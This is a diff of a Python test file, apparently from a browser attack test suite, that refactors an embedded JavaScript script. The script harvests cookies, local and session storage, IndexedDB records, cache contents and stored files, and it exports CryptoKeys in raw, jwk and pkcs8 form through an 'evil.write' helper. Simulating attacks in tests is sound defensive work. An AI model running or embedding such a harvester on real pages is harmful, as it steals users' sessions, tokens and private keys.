@@ -2,31 +2,26 @@
 
 import pytest
 
-SCRIPT = """async () => {
+from tests.attacks.speech import STORES, said
+
+SCRIPT = said(
+    STORES,
+    """
   const found = [document.cookie, window.name, JSON.stringify(history.state), location.href];
   for (const store of [localStorage, sessionStorage]) for (const name of Object.keys(store)) found.push(name, store.getItem(name));
   if (globalThis.cookieStore) found.push(JSON.stringify(await cookieStore.getAll().catch(() => [])));
-  const done = (request) => new Promise((resolve, reject) => {
-    request.onsuccess = () => resolve(request.result);
-    request.onerror = request.onblocked = () => reject(request.error);
-  });
-  for (const { name } of await indexedDB.databases()) {
-    const base = await done(indexedDB.open(name));
-    for (const table of base.objectStoreNames) {
-      const records = base.transaction(table).objectStore(table);
-      const [values, keys] = await Promise.all([done(records.getAll()), done(records.getAllKeys())]);
-      for (const value of [...values, ...keys]) {
-        found.push(evil.write(value, 6));
-        for (const key of Object.values(value)) {
-          if (!(key instanceof CryptoKey)) continue;
-          for (const form of ["raw", "jwk", "pkcs8"]) {
-            found.push(await crypto.subtle.exportKey(form, key).then(evil.write, String));
-          }
+  await stores(async (records) => {
+    const [values, keys] = await Promise.all([done(records.getAll()), done(records.getAllKeys())]);
+    for (const value of [...values, ...keys]) {
+      found.push(evil.write(value, 6));
+      for (const key of Object.values(value)) {
+        if (!(key instanceof CryptoKey)) continue;
+        for (const form of ["raw", "jwk", "pkcs8"]) {
+          found.push(await crypto.subtle.exportKey(form, key).then(evil.write, String));
         }
       }
     }
-    base.close();
-  }
+  });
   for (const name of await caches.keys()) {
     const cache = await caches.open(name);
     for (const request of await cache.keys()) found.push(request.url, await (await cache.match(request)).text());
@@ -39,8 +34,8 @@ SCRIPT = """async () => {
   }
   if (navigator.storage && navigator.storage.getDirectory) await navigator.storage.getDirectory().then(files).catch(() => {});
   const registrations = navigator.serviceWorker ? await navigator.serviceWorker.getRegistrations() : [];
-  return [...found, registrations.length];
-}"""
+  return [...found, registrations.length];""",
+)
 
 
 def act(scene):
